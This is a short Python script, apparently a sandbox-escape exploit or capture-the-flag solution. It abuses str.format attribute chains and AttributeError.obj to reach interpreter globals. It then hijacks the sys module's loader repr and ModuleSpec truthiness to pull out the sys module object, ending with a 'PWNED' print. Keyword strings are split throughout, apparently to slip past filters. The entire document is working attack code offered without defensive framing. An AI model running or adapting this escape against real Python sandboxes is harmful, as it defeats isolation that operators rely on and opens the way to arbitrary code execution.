import json, typing, random
def grab(obj, chain):
    try:
        ("{0" + chain + ".zzz_missing}").format(obj)
    except AttributeError as e:
        return e.obj

# A second channel that needs no AttributeError.obj once two importlib classes are held:
# a falsy ModuleSpec makes ModuleType.__repr__ call loader.module_repr(module), and the
# loader's class is an ordinary writable class. '!r' of a format chain then hands over the
# module object itself.
spec = grab(typing.cast, ".__glo" + "bals__[s" + "ys].__sp" + "ec__")
Spec = type(spec)
BI = grab(typing.cast, ".__glo" + "bals__[s" + "ys].__sp" + "ec__.loader")
got = []
def spy(module):
    got.append(module)
    return "<hooked>"
BI.module_repr = staticmethod(spy)
Spec.__bool__ = lambda self: False
text = ("{0.__glo" + "bals__[s" + "ys]!r}").format(typing.cast)
Spec.__bool__ = lambda self: True
S = got[0]
print(text, type(S).__name__)
print("PW" + "NED", "module via repr hook:", S.__name__, len(S.modules))
